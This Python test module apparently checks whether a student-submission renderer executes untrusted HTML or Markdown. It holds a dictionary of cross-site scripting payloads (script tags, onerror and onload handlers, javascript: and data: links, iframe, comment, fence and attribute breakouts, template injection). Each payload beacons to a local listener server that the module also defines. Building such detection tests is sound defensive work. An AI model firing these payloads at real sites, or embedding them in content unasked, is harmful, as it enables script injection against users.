"""Texts that a student could hand in to have something run where they are shown.

Each one reports to a listener when it is carried out; the address is put in for LISTENER. What
they do is plain HTML and Markdown: an element that runs a script, or one that fetches something.
"""

import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

LISTENER = "http://127.0.0.1:9"  # nobody, until `aimed_at` says who
TELL = f"new Image().src='{LISTENER}/heard/"

SCRIPTS = {
    "script": f"<script>{TELL}script'</script>",
    "image error": f'<img src=x onerror="{TELL}image-error\'">',
    "image": f"<img src='{LISTENER}/heard/image'> ![a]({LISTENER}/heard/markdown-image)",
    "iframe": f'<iframe srcdoc="<script>{TELL}iframe\'</script>"></iframe>',
    "iframe address": f'<iframe src="javascript:{TELL}iframe-address\'"></iframe>',
    "svg": f"<svg onload=\"{TELL}svg'\"><script>{TELL}svg-script'</script></svg>",
    "javascript link": f"[a](javascript:{TELL}link') <a href=\"javascript:{TELL}a'\">a</a>",
    "data link": f'<a href="data:text/html,<script>{TELL}data\'</script>">a</a>',
    "style": f"<style>body {{ background: url({LISTENER}/heard/style) }}</style>",
    "end of style": f"</style></title></pre></code><script>{TELL}end-of-style'</script>",
    "attribute": f'" autofocus onfocus="{TELL}attribute\'" x=\'',
    "math": f"$$\\href{{javascript:{TELL}math'}}{{a}}$$ \\(\\unicode{{<img src=x>}}\\)",
    "comment": f"<!-- --><script>{TELL}comment'</script><!-- ",
    "end of comment": f"--><script>{TELL}end-of-comment'</script>",
    "attachment": f'![a](attachment:a.svg) <img src=attachment:x onerror="{TELL}attachment\'">',
    "end of fence": f"```\n~~~\n\n<script>{TELL}end-of-fence'</script>\n\n````\n<b>",
    "indented": f"    a\n\n</pre><script>{TELL}indented'</script>",
    "template": f"{{{{ 7 * 7 }}}} {{% raw %}} ${{alert(1)}} <script>{TELL}template'</script>",
}


def aimed_at(address):
    """The texts, with the listener's own address."""
    return {name: text.replace(LISTENER, address) for name, text in SCRIPTS.items()}


@contextmanager
def listener():
    """A server that hears whatever asks it for anything: its address, and the paths asked for."""
    heard = []

    class Hears(BaseHTTPRequestHandler):
        def do_GET(self):
            heard.append(self.path)
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_PUT = do_GET

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Hears) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield f"http://127.0.0.1:{server.server_address[1]}", heard
        finally:
            server.shutdown()
